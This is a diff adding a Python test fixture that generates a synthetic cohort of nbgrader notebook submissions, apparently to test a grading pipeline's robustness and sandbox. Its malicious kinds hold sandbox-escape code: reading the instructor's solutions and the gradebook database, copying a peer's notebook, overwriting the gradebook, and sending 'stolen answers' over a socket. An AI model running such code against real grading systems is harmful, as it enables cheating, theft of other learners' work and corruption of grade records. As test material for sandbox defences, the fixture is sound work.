@@ -1,0 +1,262 @@
+"""A synthetic cohort for the cohort pipeline: 41 learners over every
+assignment, with the standard simulated learners, every kind of bad
+submission the pipeline must survive, and malicious ones.
+
+Each submission comes with what grading must make of it: a status, the
+autograded parts it passes (its score is their points, read from the
+instructor notebook), and words its notes must contain. Nothing here is a
+typed-in score.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Callable
+
+import nbformat
+
+from ..conftest import ROOT, read_nb
+from . import Answers, Assignment, fill
+from .evidence import EVIDENCE
+from .investment import INVESTMENT
+from .ladder import LADDER
+from .power import POWER
+from .practice import PRACTICE
+
+ASSIGNMENTS: dict[str, Assignment] = {a.name: a for a in (LADDER, POWER, INVESTMENT, EVIDENCE, PRACTICE)}
+PARTS = tuple(f"q{i}_tests" for i in range(1, 6))
+STANDARD = ("solution", "alternative", "partly-wrong", "blank", "hard-coded")
+
+
+@dataclass(frozen=True)
+class Expect:
+    status: str
+    passes: frozenset[str] = frozenset()
+    notes: tuple[str, ...] = ()
+    evidence: tuple[str, ...] = ()  # text the autograded notebook's outputs must contain
+
+
+@dataclass
+class Submission:
+    learner: str
+    assignment: str
+    kind: str
+    filename: str  # as the learner uploaded it
+    content: bytes
+    expect: Expect
+
+
+@dataclass
+class Cohort:
+    roster: list[str]
+    submissions: list[Submission] = field(default_factory=list)
+    silent: list[str] = field(default_factory=list)  # learners who sent nothing
+
+    def expected(self) -> dict[tuple[str, str], Submission]:
+        return {(s.learner, s.assignment): s for s in self.submissions}
+
+
+def points(assignment: str) -> dict[str, float]:
+    nb = read_nb(ROOT / "solutions" / assignment / f"{assignment}.ipynb")
+    return {c.metadata["nbgrader"]["grade_id"]: float(c.metadata["nbgrader"]["points"]) for c in nb.cells
+            if c.metadata.get("nbgrader", {}).get("grade")}
+
+
+def score(submission: Submission) -> float:
+    table = points(submission.assignment)
+    return sum(table[p] for p in submission.expect.passes)
+
+
+def _notebook(assignment: str, answers: Answers, written: Answers) -> nbformat.NotebookNode:
+    return fill(ROOT / "exercises" / assignment / f"{assignment}.ipynb", answers, written)
+
+
+def _bytes(nb: nbformat.NotebookNode) -> bytes:
+    return nbformat.writes(nb).encode("utf-8")
+
+
+def _cell(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
+    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
+
+
+ATTACK = '''
+import json, pathlib, sqlite3, socket
+def _attack():
+{body}
+try:
+    _attack()
+    print("ATTACK SUCCEEDED")
+except (OSError, sqlite3.Error) as _err:
+    print("BLOCKED:", type(_err).__name__)
+'''
+
+
+def _attack(body: str) -> str:
+    return ATTACK.format(body="\n".join("    " + line for line in body.strip().splitlines()))
+
+
+def malicious(assignment: str, course: Path, workspace: Path, peer: str, port: int, token: str) -> dict[str, str]:
+    """Answer-cell code for each malicious kind: each tries to get at
+    something outside its sandbox and, if it can, uses it to score."""
+    steal = ('cells = [c for c in nb["cells"] if c["cell_type"] == "code" and '
+             'c["metadata"].get("nbgrader", {}).get("solution")]\n'
+             'code = "\\n".join("".join(c["source"]) for c in cells)\n'
+             'exec("\\n".join(l for l in code.splitlines() if "SOLUTION" not in l), globals())')
+    solution = course / "solutions" / assignment / f"{assignment}.ipynb"
+    peer_nb = workspace / "submitted" / peer / assignment / f"{assignment}.ipynb"
+    return {
+        "steal-instructor": _attack(f'nb = json.loads(pathlib.Path({str(solution)!r}).read_text())\n{steal}'),
+        "steal-gradebook": _attack(
+            f'db = sqlite3.connect("file:{workspace / "gradebook.db"}?mode=ro", uri=True)\n'
+            'hidden = db.execute("SELECT source FROM source_cell").fetchall()\n'
+            'print(len(hidden), "cells read")'),
+        "steal-peer": _attack(f'nb = json.loads(pathlib.Path({str(peer_nb)!r}).read_text())\n{steal}'),
+        "write-outside": _attack(
+            f'pathlib.Path({str(workspace / "gradebook.db")!r}).write_bytes(b"corrupted")\n'
+            f'pathlib.Path({str(course / ("PWNED-" + token))!r}).write_text("x")'),
+        "network": _attack(
+            f's = socket.create_connection(("127.0.0.1", {port}), timeout=2)\n'
+            's.sendall(b"stolen answers")'),
+    }
+
+
+BAD_KINDS = ("invalid-json", "empty", "non-utf8", "renamed", "missing", "infinite-loop", "ignores-interrupt",
+             "kernel-death", "exception", "deleted-test", "edited-test", "edited-locked", "duplicated-answer",
+             "huge-line", "huge-lines", "kernelspec")
+MALICIOUS_KINDS = ("steal-instructor", "steal-gradebook", "steal-peer", "write-outside", "network")
+
+
+def _bad(kind: str, assignment: Assignment) -> tuple[str, bytes, Expect]:
+    """One bad submission: (uploaded file name, bytes, what grading must make of it)."""
+    name = f"{assignment.name}.ipynb"
+    solved = assignment.learners["solution"].answers()
+    every = frozenset(PARTS)
+
+    def edited(change: Callable[[nbformat.NotebookNode], None], answers: Answers | None = None) -> bytes:
+        nb = _notebook(assignment.name, answers or solved, assignment.written)
+        change(nb)
+        return _bytes(nb)
+
+    good = _bytes(_notebook(assignment.name, solved, assignment.written))
+    stub = "# YOUR CODE HERE\nraise NotImplementedError()"
+    if kind == "invalid-json":
+        return name, good[: len(good) // 2], Expect("unreadable", notes=(), evidence=())
+    if kind == "empty":
+        return name, b"", Expect("unreadable")
+    if kind == "non-utf8":
+        return name, good.replace(b'"cells"', b'"cel\xffls"', 1), Expect("unreadable")
+    if kind == "renamed":
+        return "Untitled1.ipynb", good, Expect("graded", every, ("renamed (Untitled1.ipynb)",))
+    if kind == "missing":
+        return "my answers.docx", b"PK\x03\x04 not a notebook", Expect("missing", notes=("no notebook among",))
+    if kind == "infinite-loop":
+        return name, edited(lambda nb: None, {**solved, "q3_answer": "while True:\n    pass"}), Expect(
+            "timeout", frozenset(PARTS[:2]), ("stopped after", "at q3_answer"))
+    if kind == "ignores-interrupt":
+        loop = ("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nsignal.signal(signal.SIGTERM, "
+                "signal.SIG_IGN)\nwhile True:\n    try:\n        pass\n    except BaseException:\n        pass")
+        return name, edited(lambda nb: None, {**solved, "q2_answer": loop}), Expect(
+            "timeout", frozenset(PARTS[:1]), ("stopped after",))
+    if kind == "kernel-death":
+        die = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"
+        return name, edited(lambda nb: None, {**solved, "q4_answer": die}), Expect(
+            "crashed", frozenset(PARTS[:3]), ("killed by signal 9",))
+    if kind == "exception":
+        broken = "raise ValueError('I had not finished this part')\n" + solved["q5_answer"]
+        return name, edited(lambda nb: None, {**solved, "q5_answer": broken}), Expect(
+            "graded", frozenset(PARTS[:4]), ("an error in answer cell q5_answer",), ("I had not finished",))
+    if kind == "deleted-test":
+        return name, edited(lambda nb: nb.cells.remove(_cell(nb, "q1_tests"))), Expect(
+            "graded", every, ("test cell q1_tests was deleted; it was put back",))
+
+    def cheat(nb: nbformat.NotebookNode) -> None:
+        _cell(nb, "q5_tests").source = "# checked by me\npass"
+
+    if kind == "edited-test":
+        return name, edited(cheat, {**solved, "q5_answer": stub}), Expect(
+            "graded", frozenset(PARTS[:4]), ("test cell q5_tests was edited; the original was put back",))
+
+    def break_setup(nb: nbformat.NotebookNode) -> None:
+        _cell(nb, "setup").source += "\nraise RuntimeError('I broke the setup cell')"
+
+    if kind == "edited-locked":
+        return name, edited(break_setup), Expect("graded", every, ("locked cell setup was edited",))
+
+    def duplicate(nb: nbformat.NotebookNode) -> None:
+        original = _cell(nb, "q5_answer")
+        copy_cell = copy.deepcopy(original)
+        copy_cell.source = "# my first try\nx = undefined_name"
+        copy_cell.id = original.id + "-copy"
+        nb.cells.insert(nb.cells.index(original), copy_cell)
+
+    if kind == "duplicated-answer":
+        return name, edited(duplicate), Expect("graded", every, ("cell q5_answer was duplicated",))
+    if kind == "huge-line":
+        loud = solved["q1_answer"] + '\nprint("x" * 10_000_000)'
+        return name, edited(lambda nb: None, {**solved, "q1_answer": loud}), Expect(
+            "graded", every, ("output of q1_answer was cut",), ("output limit:",))
+    if kind == "huge-lines":
+        loud = solved["q1_answer"] + "\nfor i in range(300_000):\n    print(i)"
+        return name, edited(lambda nb: None, {**solved, "q1_answer": loud}), Expect(
+            "graded", every, ("output of q1_answer was cut",))
+
+    def other_kernel(nb: nbformat.NotebookNode) -> None:
+        nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
+
+    if kind == "kernelspec":
+        return name, edited(other_kernel), Expect("graded", every, ("kernel was changed to 'ir'",))
+    raise ValueError(kind)
+
+
+def build(course: Path, workspace: Path, port: int, token: str, learners: int = 41) -> Cohort:
+    """The cohort: learner i has one special kind (bad or malicious) on one
+    assignment and standard submissions on the others; the last learner
+    sends nothing."""
+    roster = [f"L{i:02d}" for i in range(1, learners + 1)]
+    cohort = Cohort(roster, silent=[roster[-1]])
+    specials = BAD_KINDS + MALICIOUS_KINDS
+    names = list(ASSIGNMENTS)
+    for i, learner in enumerate(roster[:-1]):
+        for j, name in enumerate(names):
+            assignment = ASSIGNMENTS[name]
+            if i < len(specials) and j == i % len(names):
+                kind = specials[i]
+                if kind in MALICIOUS_KINDS:
+                    peer = roster[len(specials)]  # a standard learner
+                    attack = malicious(name, course, workspace, peer, port, token)[kind]
+                    answers = {f"q{k}_answer": attack for k in range(1, 6)}
+                    filename = f"{name}.ipynb"
+                    content = _bytes(_notebook(name, answers, {}))
+                    expect = Expect("graded", frozenset(), (), ("BLOCKED",))
+                else:
+                    filename, content, expect = _bad(kind, assignment)
+            else:
+                kind = STANDARD[(i + j) % len(STANDARD)]
+                learner_spec = assignment.learners[kind]
+                written = assignment.written if learner_spec.written else {}
+                content = _bytes(_notebook(name, learner_spec.answers(), written))
+                filename, expect = f"{name}.ipynb", Expect("graded", learner_spec.passes)
+            cohort.submissions.append(Submission(learner, name, kind, filename, content, expect))
+    return cohort
+
+
+def lms_name(submission: Submission) -> str:
+    """Where an LMS download puts the file: a folder per learner and assignment."""
+    return (f"{submission.assignment}/Learner {submission.learner}_{submission.learner}_assignsubmission_file_/"
+            f"{submission.filename}")
+
+
+def roster_csv(cohort: Cohort) -> str:
+    return "id,first_name,last_name\n" + "".join(f"{ident},First{ident},Last\n" for ident in cohort.roster)
+
+
+def well_formed(cohort: Cohort) -> list[Submission]:
+    """Submissions plain nbgrader can grade too (the benchmark's comparison)."""
+    return [s for s in cohort.submissions if s.kind in STANDARD]
+
+
+def as_json(cohort: Cohort) -> str:
+    return json.dumps([(s.learner, s.assignment, s.kind) for s in cohort.submissions])
